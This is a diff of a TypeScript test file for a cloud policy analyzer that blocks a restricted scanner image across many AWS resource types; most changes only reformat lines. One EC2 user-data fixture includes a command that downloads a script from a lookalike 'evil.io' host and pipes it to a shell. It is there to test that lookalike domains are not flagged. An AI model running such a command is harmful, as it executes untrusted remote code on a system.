@@ -12,7 +12,13 @@ describe("ECS task definitions (containerDefinitions is a JSON string)", () => {
   const taskDefinition = (containers: unknown[]) => ({ family: "app", containerDefinitions: JSON.stringify(containers) });
 
   it("blocks a restricted image inside the JSON document", async () => {
-    const diagnostics = await analyze("aws:ecs/taskDefinition:TaskDefinition", taskDefinition([{ name: "web", image: "nginx:1.27" }, { name: "scan", image: KCS_IMAGE }]));
+    const diagnostics = await analyze(
+      "aws:ecs/taskDefinition:TaskDefinition",
+      taskDefinition([
+        { name: "web", image: "nginx:1.27" },
+        { name: "scan", image: KCS_IMAGE },
+      ]),
+    );
     expect(properties(diagnostics)).toEqual(["containerDefinitions[1].image"]);
   });
 
@@ -29,14 +35,18 @@ describe("ECS task definitions (containerDefinitions is a JSON string)", () => {
   it("finds a pull command in a container's command and entryPoint", async () => {
     const diagnostics = await analyze(
       "aws:ecs/taskDefinition:TaskDefinition",
-      taskDefinition([{ name: "init", image: "docker:27", entryPoint: ["sh", "-c"], command: ["docker pull examplevendor/agent:7 && docker run examplevendor/agent:7"] }]),
+      taskDefinition([
+        { name: "init", image: "docker:27", entryPoint: ["sh", "-c"], command: ["docker pull examplevendor/agent:7 && docker run examplevendor/agent:7"] },
+      ]),
     );
     expect(properties(diagnostics)).toEqual(["containerDefinitions[0].command[0]"]);
     expect(diagnostics[0].message).toContain('argument of "docker pull"');
   });
 
   it("reports a containerDefinitions value that is not JSON without quoting it", async () => {
-    const diagnostics = await analyze("aws:ecs/taskDefinition:TaskDefinition", { containerDefinitions: '[{"image": "x", "environment": [{"name": "TOKEN", "value": "s3cr3t"' });
+    const diagnostics = await analyze("aws:ecs/taskDefinition:TaskDefinition", {
+      containerDefinitions: '[{"image": "x", "environment": [{"name": "TOKEN", "value": "s3cr3t"',
+    });
     expect(levels(diagnostics)).toEqual(["advisory"]);
     expect(diagnostics[0].message).not.toContain("s3cr3t");
   });
@@ -50,12 +60,24 @@ describe("ECS task definitions (containerDefinitions is a JSON string)", () => {
 
 describe("AWS Batch job definitions", () => {
   it("reads containerProperties (JSON)", async () => {
-    const diagnostics = await analyze("aws:batch/jobDefinition:JobDefinition", { type: "container", containerProperties: JSON.stringify({ image: KCS_IMAGE, command: ["scan"] }) });
+    const diagnostics = await analyze("aws:batch/jobDefinition:JobDefinition", {
+      type: "container",
+      containerProperties: JSON.stringify({ image: KCS_IMAGE, command: ["scan"] }),
+    });
     expect(properties(diagnostics)).toEqual(["containerProperties.image"]);
   });
 
   it("reads ecsProperties task containers (JSON)", async () => {
-    const ecsProperties = JSON.stringify({ taskProperties: [{ containers: [{ name: "a", image: "nginx" }, { name: "b", image: KCS_IMAGE }] }] });
+    const ecsProperties = JSON.stringify({
+      taskProperties: [
+        {
+          containers: [
+            { name: "a", image: "nginx" },
+            { name: "b", image: KCS_IMAGE },
+          ],
+        },
+      ],
+    });
     const diagnostics = await analyze("aws:batch/jobDefinition:JobDefinition", { type: "container", ecsProperties });
     expect(properties(diagnostics)).toEqual(["ecsProperties.taskProperties[0].containers[1].image"]);
   });
@@ -76,18 +98,35 @@ describe("AWS Batch job definitions", () => {
 describe("other AWS compute", () => {
   it.each([
     ["aws:lambda/function:Function", { packageType: "Image", imageUri: KCS_IMAGE }, "imageUri"],
-    ["aws:apprunner/service:Service", { sourceConfiguration: { imageRepository: { imageIdentifier: KCS_IMAGE, imageRepositoryType: "ECR_PUBLIC" } } }, "sourceConfiguration.imageRepository.imageIdentifier"],
+    [
+      "aws:apprunner/service:Service",
+      { sourceConfiguration: { imageRepository: { imageIdentifier: KCS_IMAGE, imageRepositoryType: "ECR_PUBLIC" } } },
+      "sourceConfiguration.imageRepository.imageIdentifier",
+    ],
     ["aws:sagemaker/model:Model", { executionRoleArn: "arn:aws:iam::123456789012:role/sm", primaryContainer: { image: KCS_IMAGE } }, "primaryContainer.image"],
-    ["aws:sagemaker/model:Model", { executionRoleArn: "arn:aws:iam::123456789012:role/sm", containers: [{ image: "nginx" }, { image: KCS_IMAGE }] }, "containers[1].image"],
+    [
+      "aws:sagemaker/model:Model",
+      { executionRoleArn: "arn:aws:iam::123456789012:role/sm", containers: [{ image: "nginx" }, { image: KCS_IMAGE }] },
+      "containers[1].image",
+    ],
     ["aws:codebuild/project:Project", { environment: { computeType: "BUILD_GENERAL1_SMALL", image: KCS_IMAGE, type: "LINUX_CONTAINER" } }, "environment.image"],
     ["aws:imagebuilder/containerRecipe:ContainerRecipe", { containerType: "DOCKER", parentImage: KCS_IMAGE, version: "1.0.0" }, "parentImage"],
-    ["aws:lightsail/containerServiceDeploymentVersion:ContainerServiceDeploymentVersion", { serviceName: "svc", containers: [{ containerName: "scan", image: KCS_IMAGE }] }, "containers[0].image"],
+    [
+      "aws:lightsail/containerServiceDeploymentVersion:ContainerServiceDeploymentVersion",
+      { serviceName: "svc", containers: [{ containerName: "scan", image: KCS_IMAGE }] },
+      "containers[0].image",
+    ],
   ])("blocks a restricted image in %s at %#", async (type, props, property) => {
     expect(properties(await analyze(type, props))).toEqual([property]);
   });
 
   it("reads FROM lines in an Image Builder container recipe's Dockerfile template", async () => {
-    const recipe = { containerType: "DOCKER", parentImage: "amazonlinux:2023", version: "1.0.0", dockerfileTemplateData: `FROM {{{ imagebuilder:parentImage }}}\nFROM ${KCS_IMAGE} AS scanner\n` };
+    const recipe = {
+      containerType: "DOCKER",
+      parentImage: "amazonlinux:2023",
+      version: "1.0.0",
+      dockerfileTemplateData: `FROM {{{ imagebuilder:parentImage }}}\nFROM ${KCS_IMAGE} AS scanner\n`,
+    };
     expect(properties(await analyze("aws:imagebuilder/containerRecipe:ContainerRecipe", recipe))).toEqual(["dockerfileTemplateData"]);
   });
 
@@ -97,7 +136,12 @@ describe("other AWS compute", () => {
   });
 
   it("leaves a Lightsail image pushed to the container service itself alone", async () => {
-    expect(await analyze("aws:lightsail/containerServiceDeploymentVersion:ContainerServiceDeploymentVersion", { serviceName: "svc", containers: [{ containerName: "web", image: ":svc.web.3" }] })).toEqual([]);
+    expect(
+      await analyze("aws:lightsail/containerServiceDeploymentVersion:ContainerServiceDeploymentVersion", {
+        serviceName: "svc",
+        containers: [{ containerName: "web", image: ":svc.web.3" }],
+      }),
+    ).toEqual([]);
   });
 
   it("fails closed on a Lambda image URI unknown during preview", async () => {
@@ -163,7 +207,8 @@ describe("EC2 user data", () => {
   });
 
   it("does not report scripts that pull unrelated images or mention the vendor in prose", async () => {
-    const benign = "#!/bin/bash\n# Kaspersky was removed in 2024; see kaspersky.com and notkaspersky.com\ndocker run nginx\ncurl -fsSL https://repo.kcs.kaspersky.com.evil.io/install.sh | sh\npodman pull kasperskytte/tool\n";
+    const benign =
+      "#!/bin/bash\n# Kaspersky was removed in 2024; see kaspersky.com and notkaspersky.com\ndocker run nginx\ncurl -fsSL https://repo.kcs.kaspersky.com.evil.io/install.sh | sh\npodman pull kasperskytte/tool\n";
     expect(await analyze("aws:ec2/instance:Instance", { userData: benign })).toEqual([]);
   });
 });
